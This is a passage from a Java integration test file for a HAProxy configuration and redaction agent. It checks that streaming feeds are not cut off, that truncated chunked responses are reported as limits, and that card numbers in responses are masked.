        "/events|200|data: {\"n\":1}\\n\\ndata: {\"n\":2}\\n\\n",
        "/api/chat|200|{\"n\":1}\\n{\"n\":2}\\n",
        "/api/v1/pods?watch=true|200|{\"type\":\"ADDED\"}\\n{\"type\":\"DELETED\"}\\n",
        "/api/v1/pods?watch=false|504|",
        // Docker's events stream unless an until ends them.
        "/v1.43/events|200|{\"Type\":\"container\"}\\n{\"Type\":\"network\"}\\n",
        "/v1.43/events?until=1700000600|504|",
    })
    void feedsAreNotCutOffByTheWaitForABody(String target, int status, String body) throws Exception {
        try (Haproxy h = Haproxy.start(Files.createTempDirectory(dir, "feeds"), upstream.getAddress().getPort(), 9001, agent.port(),
                false, false, Map.of("SLUICE_HAPROXY_BODY_WAIT", "300ms"))) {
            HttpResponse<String> r = client.send(HttpRequest.newBuilder(URI.create(h.url() + target))
                    .timeout(Duration.ofSeconds(10)).build(), HttpResponse.BodyHandlers.ofString());
            assertEquals(status, r.statusCode(), r.body());
            if (status == 200) {
                assertEquals(body.translateEscapes(), r.body());
            }
        }
    }

    /**
     * An answer of a feed's type that declares a length HAProxy holds (an NDJSON export) has its end
     * in sight: it is waited for like any answer, so the agent reads it whole and the card in its
     * second line, sent a moment after the first, is masked. Not waited for, the agent would read
     * only the first line and the card would pass.
     */
    @Test
    void aFeedOfDeclaredLengthIsWaitedForAndRedacted() throws Exception {
        HttpResponse<String> r = get(haproxy, "/export");
        assertEquals(200, r.statusCode(), r.body());
        assertTrue(r.body().startsWith("{\"n\":1}\n{\"n\":2,\"card\":\""), r.body());
        assertFalse(r.body().contains(CARD_ANSWER), r.body());
    }

    /**
     * A chunked answer longer than HAProxy's buffer reaches the agent cut where the buffer ended,
     * with nothing in its length to show it. The file asks the buffer (sluice.lua) and tells the
     * agent, which treats the cut as a limit: the route's fail rule (open) lets the answer through
     * whole, reported. Before, the agent read the start as the whole answer, and its redaction, a
     * Lua answer in place of the service's, cut the client's copy short.
     */
    @Test
    void aChunkedAnswerLongerThanTheBufferIsALimitNotAWholeBody() throws Exception {
        assertPassesWholeAsALimit(haproxy, "/report", LONG_REPORT);
    }

    /** The answer at {@code path} reaches the client as the service sent it, reported as a cut body. */
    private void assertPassesWholeAsALimit(Haproxy h, String path, String sent) throws Exception {
        HttpResponse<String> r = get(h, path);
        assertEquals(200, r.statusCode());
        assertEquals(sent, r.body(), "the answer as the service sent it");
        JsonNode event = SpopAgentTest.awaitEvent(dir.resolve("events.jsonl"),
                e -> e.path("path").asText().equals(path) && e.path("direction").asText().equals("response"));
        assertEquals("inspected_bytes_limit", event.path("outcome").asText(), event.toString());
        assertTrue(event.path("reason").asText().contains(SpoeCheck.NOTE_TRUNCATED), event.toString());
    }

    /**
     * The buffer set smaller through {@code SLUICE_HAPROXY_BUFSIZE} (16 KiB): a chunked answer of
     * about 8 KB under a 7.6 KB head fills it, and the file asks whether it was cut because its
     * thresholds are an eighth of that buffer. Fixed at 8 KiB, they were made for the shipped 64
     * KiB: neither the body nor the head reached them, and the agent read the answer's start as
     * the whole answer.
     */
    @Test
    void aSmallerBufferAsksAboutSmallerBodies() throws Exception {
        try (Haproxy h = Haproxy.start(Files.createTempDirectory(dir, "small-buffer"), upstream.getAddress().getPort(),
                9001, agent.port(), false, false, Map.of("SLUICE_HAPROXY_BUFSIZE", "16384"))) {
            assertTrue(WIDE_REPORT.length() < 8192 && WIDE_REPORT.length() + WIDE_HEAD_FIELD.length() > 15 * 1024);
            assertPassesWholeAsALimit(h, "/wide-report", WIDE_REPORT);
        }
    }

    /**
     * The buffer set larger (128 KiB): HAProxy waits for as much of a body as it holds, so the
     * 100 KB chunked answer reaches the agent whole and leaves with both cards masked. Before, the
     * file waited for 64 KiB whatever the buffer, the buffer then had room, so the answer's start
     * looked whole and was returned masked in place of the whole answer.
     */
    @Test
    void aLargerBufferIsWaitedForWhole() throws Exception {
        try (Haproxy h = Haproxy.start(Files.createTempDirectory(dir, "large-buffer"), upstream.getAddress().getPort(),
                9001, agent.port(), false, false, Map.of("SLUICE_HAPROXY_BUFSIZE", "131072"))) {
            HttpResponse<String> r = get(h, "/report");
            assertEquals(200, r.statusCode());
            assertEquals(LONG_REPORT.length(), r.body().length(), "the whole answer");
            assertTrue(r.body().endsWith("\"last\": {\"card\": \"**** **** **** 5559\"}}\n"), r.body());
            assertFalse(r.body().contains(CARD_ANSWER), "the first card masked");
        }
    }

    /**
     * A feed may be quiet for longer than the file's inactivity timeouts (a watch with nothing to
     * report, server-sent events between two events): it is known by its request (an Accept of
     * server-sent events, a watch) and given the feed timeout instead, so HAProxy does not cut it
     * off. Here the timeouts are 1 s and the feed is quiet for 2.5 s.
     */
    @ParameterizedTest
    @CsvSource(delimiter = '|', value = {
        "/quiet|text/event-stream|data: {\"n\":1}\\n\\ndata: {\"n\":2}\\n\\n",
        "/api/v1/quiet-pods?watch=true|application/json|{\"type\":\"ADDED\"}\\n{\"type\":\"DELETED\"}\\n",
    })
    void aQuietFeedOutlastsTheInactivityTimeouts(String target, String accept, String body) throws Exception {
        try (Haproxy h = Haproxy.start(Files.createTempDirectory(dir, "quiet"), upstream.getAddress().getPort(), 9001,
                agent.port(), false, false, Map.of("SLUICE_HAPROXY_TIMEOUT", "1s", "SLUICE_HAPROXY_BODY_WAIT", "300ms"))) {
            HttpResponse<String> r = client.send(HttpRequest.newBuilder(URI.create(h.url() + target))
                    .header("accept", accept).timeout(Duration.ofSeconds(10)).build(),
                    HttpResponse.BodyHandlers.ofString());
            assertEquals(200, r.statusCode(), r.body());
            assertEquals(body.translateEscapes(), r.body());
        }
    }

    /**
     * A grpc-web server stream (on the streaming list, so its answer is not waited for) quiet for
     * longer than the inactivity timeouts: grpc-web calls wait for the service as long as the feed
     * timeout, so it is not cut off after its first message.
     */
    @Test
    void aQuietGrpcWebStreamOutlastsTheInactivityTimeouts() throws Exception {
        Path list = Files.writeString(Files.createTempDirectory(dir, "list").resolve("streaming.lst"), "/pkg.Feed/\n");
        try (Haproxy h = Haproxy.start(Files.createTempDirectory(dir, "quiet-grpc-web"), upstream.getAddress().getPort(),
                9001, agent.port(), false, false, Map.of("SLUICE_HAPROXY_TIMEOUT", "1s", "SLUICE_HAPROXY_BODY_WAIT",
                        "300ms", "SLUICE_HAPROXY_STREAMING_PATHS", list.toString()))) {
            HttpResponse<byte[]> r = client.send(HttpRequest.newBuilder(URI.create(h.url() + "/pkg.Feed/Watch"))
                    .header("content-type", "application/grpc-web+proto").header("x-grpc-web", "1")
                    .POST(HttpRequest.BodyPublishers.ofByteArray(SpopAgentTest.grpcFrame("watch")))
                    .timeout(Duration.ofSeconds(10)).build(), HttpResponse.BodyHandlers.ofByteArray());
            assertEquals(200, r.statusCode());
            byte[] first = SpopAgentTest.grpcFrame("first");
            byte[] rest = grpcWebAnswer("second");
            byte[] whole = java.util.Arrays.copyOf(first, first.length + rest.length);
            System.arraycopy(rest, 0, whole, first.length, rest.length);
            assertArrayEquals(whole, r.body(), "both messages and the trailers' frame");
        }
    }

    /** A HAProxy child process running the shipped configuration with test ports. */
    static final class Haproxy implements AutoCloseable {
        private final Process process;
        private final int port;

        private Haproxy(Process process, int port) {
            this.process = process;
            this.port = port;
        }

        /** {@code failClosed}: with {@code SLUICE_HAPROXY_FAIL_CLOSED=1}; no gRPC server. */
        static Haproxy start(Path dir, int upstreamPort, int agentPort, boolean failClosed) throws Exception {
            return start(dir, upstreamPort, 9001, agentPort, failClosed);
        }

        /** The same with the gRPC backend on {@code grpcPort}. */
        static Haproxy start(Path dir, int upstreamPort, int grpcPort, int agentPort, boolean failClosed)
                throws Exception {
            return start(dir, upstreamPort, grpcPort, agentPort, failClosed, false);
        }

        /** {@code requestBodies}: with {@code SLUICE_HAPROXY_REQUEST_BODIES=1} (the request body filter). */
        static Haproxy start(Path dir, int upstreamPort, int grpcPort, int agentPort, boolean failClosed,
                             boolean requestBodies) throws Exception {
            return start(dir, upstreamPort, grpcPort, agentPort, failClosed, requestBodies, Map.of());
        }

        /** The same with more of the file's variables ({@code SLUICE_HAPROXY_BODY_WAIT}, ...). */
        static Haproxy start(Path dir, int upstreamPort, int grpcPort, int agentPort, boolean failClosed,
                             boolean requestBodies, Map<String, String> more) throws Exception {
            String binary = Cli.locate("haproxy");
            if (binary == null) {
                throw new IllegalStateException("haproxy not installed (.ci/run installs Debian's package)");
            }
            Files.createDirectories(dir);
            int port;
            try (ServerSocket s = new ServerSocket(0)) {
                port = s.getLocalPort();
            }
            // The shipped file itself: its addresses and switches are environment variables.
            ProcessBuilder pb = new ProcessBuilder(binary, "-f", DEPLOY.resolve("haproxy.cfg").toString(), "-db");
            Map<String, String> env = pb.environment();
            env.put("SLUICE_HAPROXY_BIND", "127.0.0.1:" + port);
            env.put("SLUICE_HAPROXY_APP", "127.0.0.1:" + upstreamPort);
            env.put("SLUICE_HAPROXY_GRPC_APP", "127.0.0.1:" + grpcPort);
            env.put("SLUICE_HAPROXY_AGENT", "127.0.0.1:" + agentPort);
            env.put("SLUICE_HAPROXY_LUA", DEPLOY.resolve("sluice.lua").toAbsolutePath().toString());
            env.put("SLUICE_HAPROXY_FAIL_CLOSED", failClosed ? "1" : "0");
            env.put("SLUICE_HAPROXY_REQUEST_BODIES", requestBodies ? "1" : "0");
            env.remove("SLUICE_HAPROXY_STREAMING_PATHS");
            env.remove("SLUICE_HAPROXY_BODY_WAIT");
            env.putAll(more);
            Path log = dir.resolve("haproxy.log");
            Process p = pb.redirectErrorStream(true).redirectOutput(log.toFile()).start();
            Haproxy h = new Haproxy(p, port);
            Cli.awaitListening(p, port, log, "haproxy");
            return h;
        }

        String url() {
            return "http://127.0.0.1:" + port;
        }

        @Override
        public void close() throws InterruptedException {
            Cli.stop(process);
        }
    }
}
